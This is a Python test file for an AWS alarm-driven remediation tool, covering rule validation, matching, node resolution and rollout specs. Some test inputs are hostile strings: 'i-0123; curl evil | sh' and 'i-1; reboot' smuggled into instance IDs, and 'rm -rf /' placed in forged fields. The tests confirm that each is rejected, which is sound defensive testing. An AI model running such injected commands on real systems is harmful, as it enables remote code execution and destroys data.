"""Remediation rules and decisions: the one rule model, matching, finding the node, what runs. Pure: no AWS."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest
from fleetwave.core.remediation import (
    AlarmStateChange,
    RuleError,
    decide_verification,
    hour_bucket,
    hour_bucket_end,
    match_rule,
    parse_rule,
    parse_rules,
    resolve_target,
)
from fleetwave_local.twin import alarm_state_change_event

NODE = "i-0123456789abcdef0"
NOW = datetime(2026, 1, 2, 10, 15, tzinfo=UTC)


def rule(**changes):
    base = {
        "name": "restart-nginx",
        "alarm_prefix": "web-nginx-down-",
        "document": "AWS-RunShellScript",
        "parameters": {"commands": ["systemctl restart nginx"]},
        "target": "dimension:InstanceId",
        "cooldown_minutes": 30,
        "max_per_hour": 5,
    }
    base.update(changes)
    return parse_rule({k: v for k, v in base.items() if v is not None})


def event(name="web-nginx-down-1", **kwargs) -> AlarmStateChange:
    kwargs.setdefault("dimensions", {"InstanceId": NODE})
    return AlarmStateChange.model_validate(alarm_state_change_event(name, event_id="e-1", at=NOW, **kwargs))


# ---------------------------------------------------------------------------------------- the rule model
def test_a_rule_normalizes_parameters_like_a_spec_and_round_trips_through_the_environment():
    parsed = rule(parameters={"commands": "systemctl restart nginx", "executionTimeout": 60})
    assert parsed.parameters == {"commands": ["systemctl restart nginx"], "executionTimeout": ["60"]}
    [again] = parse_rules(json.dumps([parsed.to_json()]))
    assert again == parsed
    # Defaults stay out of the environment (Lambda gives all variables 4 KB)
    assert "document_version" not in parsed.to_json() and "verify_minutes" not in parsed.to_json()


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"alarm_names": ["a"]}, [("", "give exactly one of alarm_names, alarm_prefix, alarm_tags")]),
        ({"alarm_prefix": None}, [("", "give exactly one of alarm_names, alarm_prefix, alarm_tags")]),
        (
            {"name": "r" * 55},
            [("name", f"'{'r' * 55}' is not a rule name (letters, digits, '.', '_', '-'; at most 54)")],
        ),
        (
            {"target": "instance"},
            [("target", "'instance' is not 'dimension:<Name>' (e.g. dimension:InstanceId) or 'tag:<Key>'")],
        ),
        ({"max_per_hour": True}, [("max_per_hour", "True is not a positive whole number")]),
        ({"verify_minutes": 0}, [("verify_minutes", "0 is not a positive whole number")]),
        ({"commands": ["rm -rf /"]}, [("commands", "unknown field")]),
        ({"document": "arn:aws:ssm:::document/X"}, [("document", "'arn:aws:ssm:::document/X' is not a document name")]),
    ],
)
def test_rule_problems_name_their_field(changes, expected):
    with pytest.raises(RuleError) as raised:
        rule(**changes)
    assert raised.value.located == expected


def test_bad_rules_in_the_environment_are_reported_by_index():
    with pytest.raises(RuleError) as raised:
        parse_rules(json.dumps([rule().to_json(), {**rule().to_json(), "cooldown_minutes": 0}]))
    assert raised.value.problems == ["[1].cooldown_minutes: 0 is not a positive whole number"]


# ---------------------------------------------------------------------------------------- matching
def test_name_rules_match_before_tag_rules_and_tag_rules_need_the_tags():
    by_tag = rule(name="by-tag", alarm_prefix=None, alarm_tags={"fleetwave:remediate": "restart-nginx"})
    by_name = rule(name="by-name", alarm_prefix=None, alarm_names=["web-nginx-down-1"])
    by_prefix = rule(name="by-prefix")
    rules = [by_tag, by_prefix, by_name]
    # Name rules (exact or prefix) in configuration order, before any tag rule
    assert match_rule(rules, "web-nginx-down-1") == by_prefix
    assert match_rule([by_tag, by_name], "web-nginx-down-1") == by_name
    # An alarm no name rule claims needs its tags, and then matches by them
    assert match_rule(rules, "db-disk-full") is None
    assert match_rule(rules, "db-disk-full", {"fleetwave:remediate": "restart-nginx"}) == by_tag
    assert match_rule(rules, "db-disk-full", {"fleetwave:remediate": "other"}) is None


# ---------------------------------------------------------------------------------------- finding the node
def test_the_node_comes_from_the_alarm_metrics_instance_id_dimension():
    assert resolve_target(rule(), event()).instance_id == NODE


@pytest.mark.parametrize(
    ("kwargs", "problem"),
    [
        ({"composite": True}, "no InstanceId dimension (a composite alarm)"),
        ({"dimensions": {"AutoScalingGroupName": "web"}}, "no InstanceId dimension (its metrics)"),
        (
            {"dimensions": {"InstanceId": "i-0123; curl evil | sh"}},
            "the dimension:InstanceId value is not a managed node ID",
        ),
        (
            {"dimensions": {"InstanceId": "i-0123456789ABCDEF0"}},
            "the dimension:InstanceId value is not a managed node ID",
        ),
    ],
)
def test_no_node_is_found_for_composite_alarms_or_values_that_are_not_node_ids(kwargs, problem):
    target = resolve_target(rule(), event(**kwargs))
    assert target.instance_id is None and target.problem == problem


def test_metric_math_alarms_naming_two_nodes_are_ambiguous():
    data = alarm_state_change_event("web-nginx-down-1", event_id="e", at=NOW, dimensions={"InstanceId": NODE})
    second = json.loads(json.dumps(data["detail"]["configuration"]["metrics"][0]))
    second["metricStat"]["metric"]["dimensions"]["InstanceId"] = "i-0fedcba9876543210"
    data["detail"]["configuration"]["metrics"].append(second)
    target = resolve_target(rule(), AlarmStateChange.model_validate(data))
    assert target.instance_id is None and "ambiguous" in target.problem


def test_a_tag_target_reads_the_alarms_tag():
    tagged = rule(target="tag:fleetwave:instance")
    assert resolve_target(tagged, event(composite=True), {"fleetwave:instance": NODE}).instance_id == NODE
    assert resolve_target(tagged, event(composite=True), {}).problem == "no tag fleetwave:instance on the alarm"


# ---------------------------------------------------------------------------------------- what runs
def test_the_rollout_runs_only_what_the_rule_says_on_the_one_node():
    spec = rule(document_version=3).rollout_spec(NODE)
    assert spec.name == "remediate-restart-nginx"
    assert spec.document.name == "AWS-RunShellScript" and spec.document.version == "3"
    assert spec.document.parameters == {"commands": ["systemctl restart nginx"]}
    assert spec.targets.instance_ids == [NODE] and not spec.targets.tags
    assert [str(w) for w in spec.waves] == ["100%"] and spec.error_budget.allowed.count == 0
    # No alarm text anywhere in what is sent: no comment, a description naming only the rule
    assert spec.comment is None and spec.description == "fleetwave remediation rule restart-nginx"
    with pytest.raises(ValueError, match="not a managed node ID"):
        rule().rollout_spec("i-1; reboot")


def test_the_event_model_reads_what_aws_documents_and_ignores_the_rest():
    data = alarm_state_change_event("web-nginx-down-1", event_id="e", at=NOW, dimensions={"InstanceId": NODE})
    data["detail"]["parameters"] = {"commands": ["rm -rf /"]}
    data["document"] = "AWS-RunRemoteScript"
    parsed = AlarmStateChange.model_validate(data)
    assert parsed.alarm_name == "web-nginx-down-1"
    assert parsed.alarm_arn == "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1"
    assert "parameters" not in parsed.model_dump() and "document" not in parsed.model_dump()
    with pytest.raises(ValueError, match="not a 'CloudWatch Alarm State Change' event"):
        AlarmStateChange.model_validate({**data, "source": "custom.forged"})


# ---------------------------------------------------------------------------------------- storm and verification
def test_the_storm_breaker_counts_per_utc_hour():
    assert hour_bucket(NOW) == "2026-01-02T10"
    assert hour_bucket_end(NOW) == NOW.replace(hour=11, minute=0)


def test_verification_waits_for_the_run_then_for_the_alarm():
    window = timedelta(minutes=10)
    assert decide_verification("RUNNING", None, NOW, window).recheck_at == NOW + window
    assert decide_verification("SUCCEEDED", NOW - timedelta(minutes=4), NOW, window).recheck_at == NOW + timedelta(
        minutes=6
    )
    assert decide_verification("SUCCEEDED", NOW - window, NOW, window).action == "check_alarm"
    # A run that failed is reported by its own rollout summary, not verified
    assert decide_verification("HALTED", NOW, NOW, window).action == "done"
